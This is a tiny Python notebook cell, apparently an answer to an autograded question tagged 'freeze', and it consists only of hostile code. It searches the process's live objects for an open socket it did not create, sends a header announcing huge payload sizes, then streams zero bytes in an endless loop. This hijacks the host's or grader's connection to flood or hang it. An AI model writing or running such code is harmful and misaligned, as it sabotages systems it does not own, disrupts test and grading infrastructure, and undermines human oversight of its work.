# %% [markdown]
# Sends and sends: zeros for as long as somebody reads.
# %% question="freeze"
import gc
import socket
import struct


def freeze(module):
    sock = next(o for o in gc.get_objects() if isinstance(o, socket.socket) and o.fileno() > 2)
    sock.sendall(struct.pack("!IQ", 4 * 2**20, 64 * 2**20))
    while True:
        sock.sendall(b"\0" * 65536)
